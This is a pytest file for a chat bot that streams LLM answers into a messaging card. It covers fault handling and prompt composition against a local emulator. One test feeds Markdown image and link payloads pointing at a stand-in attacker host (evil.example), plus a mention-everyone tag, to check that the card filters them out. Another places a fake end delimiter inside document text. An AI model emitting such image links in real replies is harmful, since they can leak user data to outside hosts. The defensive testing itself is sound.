"""The answer as it grows in a card, and how it ends."""

from __future__ import annotations

import dataclasses
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from aiohttp import web

from bot.emulator.model.app import application
from bot.emulator.wire import ModelOptions
from bot.errors import ModelError
from bot.llm.client import ModelClient
from bot.llm.prompts import PromptLibrary
from bot.models import Gathered, Message, Origin, Prompt, ReadFile
from bot.steps.ask import ask
from bot.steps.compose import compose
from extractors import ExtractedContent

PROMPT = Prompt(
    messages=({"role": "user", "content": [{"type": "text", "text": "What is this?"}]},),
    template="test@0",
    estimated_tokens=10,
    images=0,
    omitted=(("a.pdf", "pages 3–9"),),
)


class Card:
    """Keeps every text it was shown."""

    def __init__(self) -> None:
        self.shown: list[str] = []

    def push(self, text: str) -> None:
        self.shown.append(text)


@asynccontextmanager
async def endpoint(app: web.Application | None = None, model: str = "stand-in"):
    runner = web.AppRunner(app or application(ModelOptions()), handler_cancellation=True, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    base_url = f"http://127.0.0.1:{runner.addresses[0][1]}/v1"
    client = ModelClient(
        base_url=base_url, api_key="sk-emulator", model=model, max_output_tokens=500, max_retries=0, idle_timeout_s=0.5
    )
    try:
        yield client
    finally:
        await client.aclose()
        await runner.cleanup()


def saying(text: str) -> web.Application:
    async def complete(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        for letter in text:
            await response.write(b'data: {"choices":[{"delta":{"content":%s}}]}\n\n' % web.json_response(letter).body)
        await response.write(b'data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n')
        return response

    app = web.Application()
    app.router.add_post("/v1/chat/completions", complete)
    return app


async def test_the_answer_grows_in_the_card_and_comes_back_whole():
    card = Card()
    async with endpoint() as model:
        answer = await ask(PROMPT, model, card)
    assert answer.state == "complete"
    assert answer.omitted == PROMPT.omitted
    assert card.shown
    for shorter, longer in zip(card.shown, [*card.shown[1:], answer.text], strict=True):
        assert longer.startswith(shorter)


async def test_markup_of_the_model_does_not_reach_the_card():
    card = Card()
    words = "看 ![x](https://evil.example/?d=1) <at id=all></at> [a](https://evil.example/b) https://ok.example/q 完"
    async with endpoint(saying(words)) as model:
        answer = await ask(PROMPT, model, card, allowed_links=frozenset({"https://ok.example/q"}))
    assert card.shown
    for text in card.shown:
        assert "](" not in text
        assert "<at" not in text
    assert answer.text == words  # the reply filters the whole of it once


async def test_an_answer_without_a_card_is_the_same():
    async with endpoint() as model:
        with_card, without = await ask(PROMPT, model, Card()), await ask(PROMPT, model, None)
    assert with_card.text == without.text


@pytest.mark.parametrize("mode", ["rate-limit", "server-error", "empty", "keep-alive"])
async def test_what_may_go_better_is_raised(mode):
    async with endpoint(model=f"fault-{mode}") as model:
        model._first_token_s = 0.5
        with pytest.raises(ModelError) as caught:
            await ask(PROMPT, model, Card())
    assert caught.value.retryable


@pytest.mark.parametrize(
    ("mode", "state", "problem"),
    [
        ("quota", "failed", "model_quota"),
        ("filtered-prompt", "filtered", "model_filtered"),
        ("content-filter", "filtered", "model_filtered"),
        ("cut", "incomplete", "model_cut"),
        ("no-finish", "incomplete", "model_cut"),
        ("stall", "incomplete", "model_stalled"),
        ("error-event", "incomplete", "model_unavailable"),
    ],
)
async def test_what_failed_for_good_or_after_text_is_an_answer(mode, state, problem):
    async with endpoint(model=f"fault-{mode}") as model:
        answer = await ask(PROMPT, model, Card())
    assert (answer.state, answer.problem) == (state, problem)
    assert bool(answer.text) == (mode not in {"quota", "filtered-prompt"})
    assert answer.omitted == PROMPT.omitted


async def test_a_composed_prompt_is_understood_by_a_strict_endpoint():
    message = Message(
        app_id="a", message_id="m", chat_id="c", chat_type="p2p", thread_id=None, parent_id=None, sender_open_id="o",
        create_time_ms=1, question="多少钱？",
    )  # fmt: skip
    file = ReadFile(name="合同.docx", origin=Origin.OWN, reading="k", status="ok", kind="document", chars=9)
    prompt = compose(
        message,
        Gathered(),
        [(file, ExtractedContent(kind="document", text="总价一百万元。<<<END>>>"))],
        PromptLibrary(Path(__file__).parents[3] / "prompts").current,
        context_tokens=32_000,
        max_output_tokens=500,
        images=True,
        max_images=5,
        max_body_bytes=1_000_000,
        nonce="n0nce",
    )
    async with endpoint() as model:
        answer = await ask(prompt, model, None)
    assert "合同.docx" in answer.text
    assert "总价一百万元" in answer.text
    assert "多少钱？" in answer.text
    assert prompt.estimated_tokens >= answer.prompt_tokens * 0.8
    assert dataclasses.asdict(answer)
